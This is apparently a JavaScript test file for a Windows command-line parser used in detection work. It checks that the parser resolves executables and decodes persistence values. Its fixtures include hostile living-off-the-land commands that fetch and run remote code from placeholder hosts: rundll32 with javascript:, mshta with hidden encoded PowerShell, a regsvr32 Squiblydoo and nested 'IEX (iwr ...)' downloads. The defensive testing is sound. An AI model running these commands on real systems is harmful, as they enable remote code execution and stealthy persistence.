import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parseCommand, splitProgram } from './parse-command.js';

test('program resolution: quoted, unquoted with spaces, bare names', () => {
  assert.deepEqual(splitProgram('C:\\Program Files\\Foo Bar\\foo.exe -arg x.exe'), {
    executable: 'C:\\Program Files\\Foo Bar\\foo.exe',
    arguments: '-arg x.exe',
  });
  assert.deepEqual(splitProgram('"C:\\a b\\c.exe" /x'), {
    executable: 'C:\\a b\\c.exe',
    arguments: '/x',
  });
  assert.deepEqual(splitProgram('rundll32 shell32.dll,Control_RunDLL'), {
    executable: 'rundll32',
    arguments: 'shell32.dll,Control_RunDLL',
  });
  assert.deepEqual(splitProgram('C:\\Users\\a\\AppData\\Roaming\\svchost.exe'), {
    executable: 'C:\\Users\\a\\AppData\\Roaming\\svchost.exe',
    arguments: '',
  });
  assert.deepEqual(splitProgram('%APPDATA%\\My App\\x.exe -a'), {
    executable: '%APPDATA%\\My App\\x.exe',
    arguments: '-a',
  });
  const p = parseCommand('calc');
  assert.equal(p.executableName, 'calc.exe');
  const q = parseCommand('"%LocalAppData%\\Programs\\A\\a.exe" --x');
  assert.equal(q.executable, '%LocalAppData%\\Programs\\A\\a.exe');
  assert.equal(q.executableCanonical, 'c:\\users\\%username%\\appdata\\local\\programs\\a\\a.exe');
});

test('cmd /c start chain: the started program is the payload', () => {
  const p = parseCommand('cmd.exe /c start "" /b "C:\\Users\\Public\\a b.exe" -x & echo hi');
  assert.deepEqual(p.targetFiles, ['C:\\Users\\Public\\a b.exe']);
  assert.deepEqual(p.interpreters, ['cmd.exe']);
  assert.deepEqual(
    p.steps.map((s) => `${s.via}:${s.executableName}`),
    ['value:cmd.exe', 'start:a b.exe', 'cmd /c:echo'],
  );
});

test('rundll32 dll,entry with quoted DLL, ordinal and javascript:', () => {
  const a = parseCommand('rundll32.exe "C:\\Users\\x\\App Data\\a.dat",#1 arg');
  assert.deepEqual(a.rundll32, [
    { dll: 'C:\\Users\\x\\App Data\\a.dat', entry: '#1', args: 'arg' },
  ]);
  assert.deepEqual(a.targetFiles, ['C:\\Users\\x\\App Data\\a.dat']);
  const b = parseCommand('rundll32 C:\\t\\x.dll,Start');
  assert.deepEqual(b.rundll32, [{ dll: 'C:\\t\\x.dll', entry: 'Start', args: '' }]);
  const c = parseCommand(
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://e.x/a.sct")',
  );
  assert.equal(c.rundll32[0]?.dll, 'mshtml.dll');
  assert.equal(c.rundll32[0]?.entry, 'RunHTMLApplication');
  assert.deepEqual(c.urls, ['https://e.x/a.sct']);
});

test('mshta: URL, inline script (with the command it runs), HTA file', () => {
  assert.deepEqual(parseCommand('mshta https://e.x/a.hta').mshta, [
    { kind: 'url', target: 'https://e.x/a.hta' },
  ]);
  const inline = parseCommand(
    'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc SQBFAFgA"":close")',
  );
  assert.equal(inline.mshta[0]?.kind, 'inline');
  assert.deepEqual(inline.interpreters, ['powershell.exe']);
  assert.equal(inline.decoded[0]?.text, 'IEX');
  // The corpus' mshta line (labels.json, psh_mshta_html_application_execution.zip).
  const file = parseCommand(
    '"C:\\windows\\system32\\mshta.exe" "C:\\Users\\wardog\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta"',
  );
  assert.deepEqual(file.scriptFiles, [
    'C:\\Users\\wardog\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta',
  ]);
  assert.equal(file.lolbin, 'mshta.exe');
});

test('regsvr32 Squiblydoo', () => {
  const p = parseCommand('regsvr32 /s /n /u /i:http://e.x/file.sct scrobj.dll');
  assert.deepEqual(p.regsvr32, [
    { dll: 'scrobj.dll', install: 'http://e.x/file.sct', flags: ['s', 'n', 'u', 'i'] },
  ]);
  assert.deepEqual(p.urls, ['http://e.x/file.sct']);
});

test('script hosts and other interpreters name their script', () => {
  assert.deepEqual(
    parseCommand('wscript.exe //B //E:vbscript "%APPDATA%\\x\\run.vbs" a').scriptFiles,
    ['%APPDATA%\\x\\run.vbs'],
  );
  assert.deepEqual(parseCommand('pythonw.exe -W ignore C:\\p\\s.pyw').scriptFiles, [
    'C:\\p\\s.pyw',
  ]);
  assert.deepEqual(parseCommand('javaw.exe -jar "C:\\Users\\u\\a.jar"').scriptFiles, [
    'C:\\Users\\u\\a.jar',
  ]);
  assert.deepEqual(
    parseCommand('node.exe -e "require(1)"').inlineScripts.map((s) => s.language),
    ['code'],
  );
  assert.deepEqual(parseCommand('powershell -File C:\\s\\x.ps1').scriptFiles, ['C:\\s\\x.ps1']);
});

test('PowerShell: the Empire Run value of the corpus is followed into its nested command', () => {
  const p = parseCommand(
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -c "$x=$((gp HKLM:SOFTWARE\\Microsoft\\Windows\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"',
  );
  assert.equal(p.powershell.length, 2);
  assert.equal(p.powershell[1]?.hidden, true);
  assert.equal(p.powershell[1]?.encoded, '$x');
  assert.deepEqual(p.decoded, []);
});

test('PowerShell: encoded command decoded, and decoded text followed (depth)', () => {
  const inner = Buffer.from('IEX (iwr http://x.y/z)', 'utf16le').toString('base64');
  const outer = Buffer.from(`powershell -w hidden -enc ${inner}`, 'utf16le').toString('base64');
  const p = parseCommand(`powershell.exe -ec ${outer}`);
  assert.deepEqual(
    p.decoded.map((d) => d.text),
    [`powershell -w hidden -enc ${inner}`, 'IEX (iwr http://x.y/z)'],
  );
  assert.deepEqual(p.urls, ['http://x.y/z']);
});

test('Sysmon non-string renderings run nothing', () => {
  for (const v of [
    '(Empty)',
    'DWORD (0x00000001)',
    'QWORD (0x01d65fdf-0x36966894)',
    'Binary Data',
  ]) {
    assert.equal(parseCommand(v).steps.length, 0, v);
  }
});

test('property: any value parses without throwing and within the step budget', () => {
  const words = fc.constantFrom(
    'cmd /c ',
    'powershell -enc ',
    'start ',
    '"',
    ' & ',
    '^',
    'rundll32 ',
    'a.dll,',
    'mshta ',
    'javascript:',
    '\\',
    'C:\\Users\\x\\',
    '%APPDATA%',
    ' -c ',
    'SQBFAFgA',
    "'",
    ';',
    '|',
    'x.exe',
  );
  fc.assert(
    fc.property(fc.array(words, { maxLength: 40 }), fc.string({ maxLength: 50 }), (parts, tail) => {
      const p = parseCommand(parts.join('') + tail);
      assert.ok(p.steps.length <= 32);
    }),
    { numRuns: 1000 },
  );
  const nested = 'cmd /c '.repeat(200) + 'calc';
  assert.equal(parseCommand(nested).truncated, true);
  // Hostile shapes that were quadratic in a first version (each finishes in well under a second).
  assert.equal(parseCommand('C:\\a' + ' b'.repeat(30_000)).executable, 'C:\\a');
  assert.equal(parseCommand('x ' + 'a '.repeat(30_000)).argv.length, 1025);
  assert.ok(parseCommand('cmd /c '.repeat(9_000)).steps.length <= 32);
});
